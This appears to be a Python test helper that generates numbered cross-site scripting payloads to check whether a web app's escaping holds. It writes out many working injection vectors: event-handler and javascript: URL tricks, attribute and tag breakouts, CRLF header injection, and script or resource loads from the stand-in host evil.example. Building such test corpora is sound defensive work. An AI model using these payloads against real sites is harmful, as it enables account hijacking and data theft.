"""Words that a stranger may write to have a script run: ways to run one, each put behind ways to get out.

Each calls `hit` with its number, asks for a picture from elsewhere, or both, so that whatever acts is seen
and says which it was. `python -m tests.web.payloads` prints them.
"""

from __future__ import annotations

import html
import itertools
import re
from collections.abc import Iterator
from functools import lru_cache
from typing import Final

_RUN: Final = "hit({n})"

_WAYS: Final = (
    "<script>{run}</script>",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror={run}>",
    "<img src=//evil.example/{n}.png>",
    "<svg onload={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}/>#x'/></svg>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<a href=javascript:{run}>open</a>",
    "<a href='java\tscript:{run}'>open</a>",
    "<form action=javascript:{run}><button autofocus>go</button></form>",
    "<body onload={run}>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<object data=javascript:{run}></object>",
    "<embed src=//evil.example/{n}.swf>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css';*{{background:url(//evil.example/{n}.gif)}}</style>",
    "<p style='background:url(//evil.example/{n}.gif)' onmouseover={run}>over</p>",
    "<template shadowrootmode=open><img src=x onerror={run}></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<div hx-get=//evil.example/{n} hx-trigger=load hx-on:load={run} data-hx-on--load={run}>part</div>",
    "<div onclick={run} tabindex=1 autofocus onfocus={run} contenteditable>here</div>",
)
"""Ways to run a script, or to ask for something from elsewhere."""

_OUT: Final = (
    "{way}",
    '">{way}',
    "'>{way}",
    "`>{way}",
    "</textarea>{way}",
    "</title></style></script>{way}",
    "-->{way}<!--",
    "]]>{way}<![CDATA[",
    "</noscript></select></template>{way}",
    '\\"}}]}});{run}//{way}',
    '" onfocus={run} autofocus x="{way}',
    "' onfocus={run} autofocus x='{way}",
    "javascript:{run}//{way}",
    "data:text/html,{way}",
    "{{{{{run}}}}}{{% raw %}}{way}",
    "${{{run}}}#{{{run}}}{way}",
    "[{way}](javascript:{run})",
    "\r\nContent-Type: text/html\r\n\r\n{way}",
    "&lt;{way}&#60;&#x3c;",
    "\u202e\uff1cscript\uff1e\ufeff{way}",
)
"""Ways out of where the words stand: an attribute, an element, a comment, a script, an address."""


PER_FIELD: Final = 1000
"""The number of a payload is this many times the number of the text field that holds it, and its own."""

BREAK: Final = " -->\"'> "
"""Stands between two payloads of one text: ends a comment, an attribute or a tag that the first left open."""

ROUNDS: Final = 49
"""In so many rounds every payload stands in every field once; so a text holds 11 or 12."""

_MARK = re.compile(r"(?:hit\(|evil\.example/)(\d+)")


def payloads(field: int = 0) -> tuple[str, ...]:
    """All of them, each different, in an order that does not change.

    Args:
        field: the number of the text field that they are for; each tells it when it acts.
    """
    return tuple(_made(field * PER_FIELD))


@lru_cache(maxsize=1024)
def payload(number: int) -> str:
    """The one that calls `hit` with this number."""
    out, way = divmod(number % PER_FIELD, len(_WAYS))
    return _one(_OUT[out], _WAYS[way], number)


def chunk(field: int, turn: int) -> str:
    """Some of the payloads for one field, joined so that each can act after those before it.

    Each has payloads behind many kinds of ways out. Which is first differs from field to field.

    Args:
        field: the number of the field.
        turn: the round; `ROUNDS` of them hold every payload.
    """
    own = range((field + turn) % ROUNDS, len(_OUT) * len(_WAYS), ROUNDS)
    first = field % len(own)
    return BREAK.join(payload(field * PER_FIELD + n) for n in (*own[first:], *own[:first]))


def _made(base: int) -> Iterator[str]:
    for n, (out, way) in enumerate(itertools.product(_OUT, _WAYS)):
        yield _one(out, way, base + n)


def _one(out: str, way: str, number: int) -> str:
    run = _RUN.format(n=number)
    return out.format(way=way.format(n=number, run=run), run=run)


def mark(n: int) -> tuple[str, str]:
    """The two pieces of which every payload holds one, that tell its number."""
    return _RUN.format(n=n), f"evil.example/{n}"


def marks_in(text: str) -> set[int]:
    """The numbers of all payloads of which a text holds a mark; what is no such number was cut off."""
    return {number for number in map(int, _MARK.findall(text)) if number % PER_FIELD < len(_OUT) * len(_WAYS)}


def whole_in(text: str) -> set[int]:
    """The numbers of all payloads that a text holds from beginning to end.

    White space does not count, nor what stands in the place of characters that turn the direction of a text,
    nor whether `&lt;` was read as the character that it names.
    """
    found = _squeezed(text)
    return {number for number in marks_in(text) if _squeezed(payload(number)) in found}


def _squeezed(text: str) -> str:
    return re.sub(r"[\s\u202e\ufffd\ufeff]", "", html.unescape(text))


if __name__ == "__main__":
    for one in payloads():
        print(repr(one))
